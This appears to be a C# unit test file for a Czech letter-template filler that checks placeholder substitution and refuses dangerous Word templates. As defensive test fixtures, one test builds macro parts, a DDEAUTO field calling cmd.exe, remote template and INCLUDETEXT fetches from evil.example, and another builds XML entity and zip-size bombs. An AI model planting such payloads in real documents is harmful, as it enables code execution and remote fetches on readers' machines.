using DocumentFormat.OpenXml;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Validation;
using DocumentFormat.OpenXml.Wordprocessing;
using Vridlo.Base;
using Vridlo.Statements.Letters;

namespace Vridlo.Statements.Tests.Letters;

/// <summary>Templates without a database: what is filled, what is refused.</summary>
public sealed class TemplateRules
{
    private static readonly byte[] Usual = DefaultTemplate.Make(new TextCatalogue([typeof(StatementsModule).Assembly], strict: true).In(Language.Cs));

    private static Dictionary<LetterField, IReadOnlyList<string>> Values => LetterField.All.ToDictionary(f => f, f => (IReadOnlyList<string>)[$"<{f.Name}>"]);

    [Fact]
    public void The_template_that_comes_with_the_system_is_good_and_so_is_its_letter()
    {
        Assert.Empty(CheckTemplate.Run(Usual));
        Assert.Empty(Invalid(Usual));
        var values = Values;
        (values[LetterField.Nodes], values[LetterField.Reasons]) = (["4.2.1 Cyklostezky", "12.4 Most"], ["První řádek.", "", "Třetí řádek."]);
        var letter = FillLetter.Run(Usual, values);
        Assert.Empty(Invalid(letter));
        var lines = Asked.Lines(letter);
        Assert.Contains("První řádek.||Třetí řádek.", lines);
        Assert.Equal(lines.Index().First(l => l.Item == "4.2.1 Cyklostezky").Index + 1, lines.Index().First(l => l.Item == "12.4 Most").Index);
        Assert.All(LetterField.All.Where(f => f != LetterField.Nodes && f != LetterField.Reasons), f => Assert.Contains($"<{f.Name}>", lines));
        Assert.DoesNotContain(lines, l => l.Contains("{{", StringComparison.Ordinal));
    }

    /// <summary>Word splits text into runs wherever somebody has corrected something; formatting of the first letter stays.</summary>
    [Fact]
    public void A_placeholder_is_found_however_Word_has_split_it()
    {
        var template = Changed(body => body.Append(
            new Paragraph(Run("Věc "), Run("{"), Run("{čí", bold: true), new ProofError { Type = ProofingErrorValues.SpellStart }, Run("slo"), Run("}"), Run("} a {{ ČÍSLO }} k {{ Cislo}}{{datum}}."))));
        Assert.Empty(CheckTemplate.Run(template));
        var letter = FillLetter.Run(template, Values);
        Assert.Contains("Věc <číslo> a <číslo> k <číslo><datum>.", Asked.Lines(letter));
        Assert.Empty(Invalid(letter));
    }

    [Fact]
    public void Placeholders_in_tables_heads_of_pages_and_boxes_are_filled_and_paragraphs_repeat_with_all_they_hold()
    {
        var template = Changed((body, main) =>
        {
            var head = main.AddNewPart<HeaderPart>();
            head.Header = new Header(new Paragraph(Run("Č. j. {{číslo}}")));
            body.Elements<SectionProperties>().Single().PrependChild(new HeaderReference { Type = HeaderFooterValues.Default, Id = main.GetIdOfPart(head) });
            body.PrependChild(new Table(
                new TableProperties(new TableWidth { Type = TableWidthUnitValues.Auto, Width = "0" }), new TableGrid(new GridColumn { Width = "5000" }),
                new TableRow(new TableCell(new Paragraph(new ParagraphProperties(new Justification { Val = JustificationValues.Right }), Run("• {{opatření}} ({{projekt}})", bold: true))))));
        });
        Assert.Empty(CheckTemplate.Run(template));
        var values = Values;
        values[LetterField.Nodes] = ["4.2.1", "12.4", "8.1"];
        var letter = FillLetter.Run(template, values);
        Assert.Empty(Invalid(letter));
        using var document = WordprocessingDocument.Open(new MemoryStream(letter), false);
        Assert.Equal("Č. j. <číslo>", document.MainDocumentPart!.HeaderParts.Single().Header!.InnerText);
        var repeated = document.MainDocumentPart.Document!.Body!.Descendants<TableCell>().First().Elements<Paragraph>().ToList();
        Assert.Equal(["• 4.2.1 (<projekt>)", "• 12.4 (<projekt>)", "• 8.1 (<projekt>)"], repeated.Select(p => p.InnerText));
        Assert.All(repeated, p => Assert.Equal(JustificationValues.Right, p.ParagraphProperties!.Justification!.Val!.Value));
        Assert.All(repeated, p => Assert.NotNull(p.Descendants<Bold>().FirstOrDefault()));
    }

    [Fact]
    public void What_XML_cannot_hold_does_not_break_the_letter_and_braces_in_a_value_are_only_text()
    {
        var values = Values;
        values[LetterField.Project] = ["A\u0001\u000B\uFFFF<b>&\ud800 {{datum}} 😀"];
        var letter = FillLetter.Run(Usual, values);
        Assert.Empty(Invalid(letter));
        Assert.Contains("A<b>& {{datum}} 😀", Asked.Lines(letter));
    }

    [Fact]
    public void What_is_unknown_missing_or_not_whole_is_said_by_name()
    {
        var template = Changed(body =>
        {
            body.Descendants<Text>().Single(t => t.Text == "{{důvody}}").Text = "{{duvod}}";
            body.Descendants<Text>().Single(t => t.Text == "{{příslib}}").Text = "Bez záruky {{platnost";
            body.PrependChild(new Paragraph(Run("{{kontakt}} {{kontakt}}")));
        });
        var wrong = CheckTemplate.Run(template);
        Assert.Equal(
            [("statements.template.broken", "Bez záruky {{platnost"), ("statements.template.unknown", "{{kontakt}}"), ("statements.template.unknown", "{{duvod}}"), ("statements.template.lacks", "{{důvody}}"), ("statements.template.lacks", "{{příslib}}")],
            wrong.Select(w => (w.Code, (string)w.Arguments[0])));
        Assert.All(wrong, w => Assert.Equal("file", w.Field));
    }

    [Fact]
    public void What_runs_or_fetches_something_is_refused()
    {
        Assert.Equal("statements.template.macros", Only(Changed((_, main) => main.AddNewPart<VbaProjectPart>().FeedData(new MemoryStream([1, 2, 3])))));
        Assert.Equal("statements.template.macros", Only(Typed(WordprocessingDocumentType.MacroEnabledDocument)));
        Assert.Equal("statements.template.macros", Only(Typed(WordprocessingDocumentType.Template)));
        Assert.Equal("statements.template.embedded", Only(Changed((_, main) => main.AddEmbeddedObjectPart("application/vnd.openxmlformats-officedocument.oleObject").FeedData(new MemoryStream([1])))));
        Assert.Equal("statements.template.embedded", Only(Changed((_, main) => main.AddAlternativeFormatImportPart(AlternativeFormatImportPartType.Html).FeedData(new MemoryStream("<p>x</p>"u8.ToArray())))));
        Assert.Equal("statements.template.external", Only(Changed((_, main) => main.AddNewPart<DocumentSettingsPart>().AddExternalRelationship(
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", new Uri("http://evil.example/a.dotm")))));
        Assert.Equal("statements.template.external", Only(Changed((_, main) => main.AddExternalRelationship(
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", new Uri("http://evil.example/a.png")))));
        Assert.Equal("statements.template.field", Only(Changed(body => body.PrependChild(new Paragraph(
            new Run(new FieldChar { FieldCharType = FieldCharValues.Begin }), new Run(new FieldCode(" DDE")), new Run(new FieldCode("AUTO c:\\\\cmd.exe")), new Run(new FieldChar { FieldCharType = FieldCharValues.End }))))));
        Assert.Equal("statements.template.field", Only(Changed(body => body.PrependChild(new Paragraph(new SimpleField(Run("x")) { Instruction = " INCLUDETEXT \"http://evil.example\" " })))));

        // A link that a person may follow and numbers of pages fetch nothing.
        Assert.Empty(CheckTemplate.Run(Changed((body, main) =>
        {
            main.AddHyperlinkRelationship(new Uri("https://www.kr-karlovarsky.cz"), isExternal: true);
            body.PrependChild(new Paragraph(new SimpleField(Run("1")) { Instruction = " PAGE " }, new SimpleField(Run("x")) { Instruction = " HYPERLINK \"https://www.kr-karlovarsky.cz\" " }));
        })));
    }

    [Fact]
    public void What_is_no_Word_document_or_a_bomb_is_refused()
    {
        Assert.Equal("statements.template.missing", Only([]));
        Assert.Equal("statements.template.large", Only(new byte[CheckTemplate.Largest + 1]));
        Assert.StartsWith("documents.", Only("Vyjádření {{číslo}}"u8.ToArray()), StringComparison.Ordinal);
        Assert.StartsWith("documents.", Only(Usual[..(Usual.Length / 2)]), StringComparison.Ordinal);
        Assert.StartsWith("documents.", Only(Zip(("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<x/>"))), StringComparison.Ordinal);
        Assert.StartsWith("documents.", Only(Zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"))), StringComparison.Ordinal);
        Assert.StartsWith("documents.", Only(Zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", new string(' ', 200 * 1024 * 1024)))), StringComparison.Ordinal);
    }

    [Fact]
    public void Required_placeholders_are_those_without_which_a_letter_would_be_none() =>
        Assert.Equal(["číslo", "datum", "žadatel", "projekt", "opatření", "rozhodnutí", "důvody", "příslib", "platnost", "podpis"], LetterField.All.Where(f => f.Required).Select(f => f.Name));

    private static string Only(byte[] content) => Assert.Single(CheckTemplate.Run(content).Select(p => p.Code).Distinct());

    private static IReadOnlyList<string> Invalid(byte[] docx)
    {
        using var document = WordprocessingDocument.Open(new MemoryStream(docx), false);
        return [.. new OpenXmlValidator(FileFormatVersions.Microsoft365).Validate(document).Select(e => $"{e.Part?.Uri} {e.Path?.XPath}: {e.Description}")];
    }

    private static Run Run(string text, bool bold = false) =>
        new(bold ? [new RunProperties(new Bold()), Spaced(text)] : new OpenXmlElement[] { Spaced(text) });

    private static Text Spaced(string text) => new(text) { Space = SpaceProcessingModeValues.Preserve };

    private static byte[] Changed(Action<Body> change) => Changed((body, _) => change(body));

    private static byte[] Changed(Action<Body, MainDocumentPart> change)
    {
        using var stream = new MemoryStream();
        stream.Write(Usual);
        using (var document = WordprocessingDocument.Open(stream, isEditable: true))
        {
            var body = document.MainDocumentPart!.Document!.Body!;
            var page = body.Elements<SectionProperties>().Single();
            change(body, document.MainDocumentPart);
            page.Remove();
            body.Append(page);
        }

        return stream.ToArray();
    }

    private static byte[] Typed(WordprocessingDocumentType type)
    {
        using var stream = new MemoryStream();
        stream.Write(Usual);
        using (var document = WordprocessingDocument.Open(stream, isEditable: true))
        {
            document.ChangeDocumentType(type);
        }

        return stream.ToArray();
    }

    private static byte[] Zip(params IReadOnlyList<(string Name, string Content)> entries)
    {
        using var stream = new MemoryStream();
        using (var archive = new System.IO.Compression.ZipArchive(stream, System.IO.Compression.ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                using var writer = new StreamWriter(archive.CreateEntry(name).Open());
                writer.Write(content);
            }
        }

        return stream.ToArray();
    }
}
